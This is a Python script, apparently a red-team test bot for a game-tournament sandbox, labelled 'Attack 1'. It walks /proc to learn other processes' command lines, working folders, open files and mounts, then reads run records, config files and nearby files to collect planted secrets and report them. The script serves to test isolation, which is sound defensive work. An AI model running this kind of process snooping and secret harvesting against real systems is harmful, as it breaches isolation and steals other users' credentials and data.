#!/usr/bin/env python3
"""Attack 1: find the run folder (and the config) and read run.json, results.jsonl and the
config -- which hold every bot's ``env`` and every finished game.

Where it looks: its working folder (and every file under it, a few levels deep), the command
lines, working folders and open files of its parent (the table: the runner, or a table
process) and, inside a sandbox, of every process it can see, its own mount table, and
``--hint`` paths (an attacker who guessed the path).  It reports the files it could read and the
planted secrets it found in them, and every path it learnt from /proc."""

import os

from cheatlib import cmdline, flag, others, play, report, secrets_in, why

NAMES = ("run.json", "results.jsonl", "config.toml", "summary.json")


def learnt_paths() -> set[str]:
    found: set[str] = set()
    for pid in others(flag("only")):
        for word in cmdline(pid):
            if word.startswith("/"):
                found.add(word)
        for link in (f"/proc/{pid}/cwd", f"/proc/{pid}/root"):
            try:
                found.add(os.readlink(link))
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    found.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
                except OSError:
                    pass
        except OSError:
            pass
    try:
        with open("/proc/self/mountinfo") as fh:
            found.update(line.split()[4] for line in fh)
    except OSError:
        pass
    return {p for p in found if p.startswith("/") and p not in ("/", "/proc", "/dev", "/tmp")}


def candidates(paths: set[str]) -> list[str]:
    """Files that may be the run folder's or the config."""
    files: list[str] = []
    for p in sorted(paths):
        folders = [p, os.path.dirname(p)]
        if p.endswith(".toml") or os.path.basename(p) in NAMES:
            files.append(p)
        for folder in folders:
            try:
                entries = os.listdir(folder)
            except OSError:
                continue
            for e in entries:
                full = os.path.join(folder, e)
                if e in NAMES or e.endswith(".toml"):
                    files.append(full)
                elif os.path.isdir(full):  # one level down: the output folder next to the config
                    try:
                        files += [os.path.join(full, n) for n in os.listdir(full) if n in NAMES]
                    except OSError:
                        pass
    return list(dict.fromkeys(files))


def tree(top: str, depth: int = 3, limit: int = 300) -> list[str]:
    """Every file under its working folder (a few levels, a few hundred files): other bots'
    files that lie there, their data, their secrets."""
    files: list[str] = []
    for folder, dirs, names in os.walk(top):
        if folder.count(os.sep) - top.count(os.sep) >= depth:
            dirs.clear()
        files += [os.path.join(folder, n) for n in names]
        if len(files) >= limit:
            break
    return files[:limit]


def attack(n: int) -> None:
    if n != 1:
        return
    paths = learnt_paths()
    hints = [h for h in (flag("hint"),) if h]
    paths.update(hints)
    paths.add(os.getcwd())
    read, errors, found = [], {}, set()
    for f in candidates(paths) + [os.path.join(h, n) for h in hints for n in NAMES] + tree(os.getcwd()):
        try:
            with open(f, "rb") as fh:
                data = fh.read(1 << 20)
        except OSError as exc:
            errors[f] = why(exc)
            continue
        if data:
            read.append(f)
            found.update(secrets_in(data))
    report("run_folder", read=read, secrets=sorted(found), errors=errors, learnt=sorted(paths))


play("run-folder-reader", on_request=attack)
